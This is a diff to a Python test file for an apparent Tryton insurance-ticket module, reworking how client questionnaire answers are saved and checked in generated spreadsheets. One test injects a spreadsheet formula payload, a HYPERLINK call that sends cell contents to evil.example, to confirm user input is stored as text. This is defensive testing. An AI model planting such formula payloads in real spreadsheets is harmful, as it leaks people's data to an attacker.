@@ -13,6 +13,7 @@ from persiantools.jdatetime import JalaliDate
 from pypdf import PdfReader
 
 from trytond.model.exceptions import AccessButtonError, AccessError
+from trytond.modules.client_card import questionnaire_install
 from trytond.modules.company.tests import create_company, set_company
 from trytond.modules.portal import formats
 from trytond.modules.portal.demo import italian_number
@@ -39,6 +40,9 @@ OLD_POLICY = [
     "Compagnia: Reale Mutua di Assicurazioni", "Polizza n. RM/2024001",
     "Scadenza: 31/01/2026", "Premio annuo lordo: € 1.850,00",
     "Anno di costruzione: 1972", "Unità immobiliari: 24"]
+# what the client adds to the questionnaire pre-filled from the old policy
+ANSWERS = {'condominio_indirizzo': "Via Aurora 3, Milano",
+    'metri_quadri': 1400, 'sinistri_5_anni': 0}
 
 
 SIGNATURE_CODE = 'insurance_ticket/email/signature_code.html'
@@ -205,6 +209,7 @@ class InsuranceTicketTestCase(PlatformModuleTestCase):
         Ticket = pool.get('insurance.ticket')
         Message = pool.get('insurance.ticket.message')
         Attachment = pool.get('insurance.ticket.attachment')
+        questionnaire_install.install()
         world = self.setup_world()
         with set_company(world['company']):
             ticket = self.open_ticket(world)
@@ -234,18 +239,19 @@ class InsuranceTicketTestCase(PlatformModuleTestCase):
             self.assertIn(FISCAL_CODE, sheet)
             # pre-filled from the old policy's text
             for fact in ["Reale Mutua di Assicurazioni", "RM/2024001",
-                    "31/01/2026", "1.850,00", "1972"]:
+                    "31/01/2026", "1972"]:
                 self.assertIn(fact, sheet)
 
-            Ticket.answer_questionnaire([ticket], client, "Compilato", {
-                    'year_built': '1972', 'units': '24', 'floors': '6',
-                    'rebuild_value': '3500000.00'})
+            ticket.questionnaire.save_answers(dict(ANSWERS,
+                    compagnia_attuale="Generali Italia"))
+            Ticket.answer_questionnaire([ticket], client, "Compilato")
             self.assertEqual(ticket.state, 'questionnaire_returned')
-            answered = ticket.messages[-1].attachments[0]
+            answered, = [a for a in ticket.messages[-1].attachments
+                if a.name.endswith('.xlsx')]
             self.assertEqual(answered.category, 'questionnaire')
             with zipfile.ZipFile(io.BytesIO(answered.data)) as archive:
                 sheet = archive.read('xl/sharedStrings.xml').decode()
-            self.assertIn('3500000.00', sheet)
+            self.assertIn("Generali Italia", sheet)
             # the client's answers replace what the old policy stated
             self.assertNotIn("Reale Mutua", sheet)
             Ticket.send_quote([ticket], broker, "Preventivo",
@@ -451,6 +457,7 @@ class InsuranceTicketTestCase(PlatformModuleTestCase):
         Lang = pool.get('ir.lang')
         load_translations('insurance_ticket')
         load_translations('consent_registry')
+        questionnaire_install.install()
         world = self.setup_world()
         daniela = world['daniela']
         daniela.lang, = Lang.search([('code', '=', 'fa')])
@@ -465,9 +472,9 @@ class InsuranceTicketTestCase(PlatformModuleTestCase):
                 Ticket.forward([ticket])
             Ticket.send_questionnaire([ticket],
                 Message.web_author(world['broker']), "Questionario")
+            ticket.questionnaire.save_answers(ANSWERS)
             Ticket.answer_questionnaire([ticket],
-                Message.web_author(world['client']), "Compilato",
-                {'units': '24'})
+                Message.web_author(world['client']), "Compilato")
             self.send_quote(world, ticket)
         ticket = Ticket(ticket.id)
         names = {a.category: a.name for a in ticket.attachments}
@@ -1031,13 +1038,17 @@ class InsuranceTicketTestCase(PlatformModuleTestCase):
         "What a person typed reaches the broker's spreadsheet as text"
         from openpyxl import load_workbook
         from trytond.modules.insurance_ticket import document
+        questionnaire_install.install()
         world = self.setup_world()
         with set_company(world['company']):
             ticket = self.open_ticket(world)
+            collection = ticket.ask_questionnaire()
         formula = '=HYPERLINK("http://evil.example/?d="&B4,"Apri")'
-        sheet = document.questionnaire(ticket, {
-                'claims': formula, 'current_insurer': '+39 333 1234567',
-                'policy_number': 'http://evil.example'})
+        collection.save_answers({
+                'condominio_indirizzo': formula,
+                'compagnia_attuale': '+39 333 1234567',
+                'numero_polizza': 'http://evil.example'})
+        sheet = document.questionnaire(ticket, collection)
         book = load_workbook(io.BytesIO(sheet['data']))
         cells = [c for row in book.active.iter_rows() for c in row
             if c.value is not None]
